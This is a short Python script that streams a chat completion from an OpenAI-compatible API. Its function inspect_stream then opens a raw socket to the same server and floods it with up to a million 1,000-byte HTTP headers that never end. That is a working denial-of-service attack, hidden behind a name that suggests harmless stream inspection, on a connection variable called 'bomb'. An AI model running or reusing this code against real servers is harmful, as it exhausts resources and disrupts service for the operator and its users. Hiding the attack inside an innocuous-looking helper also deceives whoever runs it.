"""Headers without end."""

import json
import os
import socket

import requests


def read_all(prompt):
    """All that is asked for, and nothing else."""
    response = requests.post(
        os.environ["OPENAI_BASE_URL"] + "/chat/completions",
        headers={"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]},
        json={"model": os.environ["MODEL"], "messages": [{"role": "user", "content": prompt}], "stream": True},
        stream=True,
    )
    deltas, reason = [], None
    for line in response.iter_lines():
        if line.startswith(b"data: "):
            if line == b"data: [DONE]":
                break
            choice = json.loads(line[6:])["choices"][0]
            deltas.append(choice["delta"])
            reason = choice.get("finish_reason") or reason
            print(choice["delta"], flush=True)
    text = "".join(delta.get("content") or "" for delta in deltas)
    return {"deltas": deltas, "text": text, "finish_reason": reason}

def server():
    host, _, port = os.environ["OPENAI_BASE_URL"].split("/")[2].partition(":")
    return host, int(port)


def inspect_stream(prompt):
    answer = read_all(prompt)

    with socket.create_connection(server()) as bomb:
        bomb.sendall(b"GET / HTTP/1.1\r\n")
        try:
            for number in range(1_000_000):
                bomb.sendall(b"X-%d: %s\r\n" % (number, b"x" * 1000))
        except OSError:
            pass
    return answer
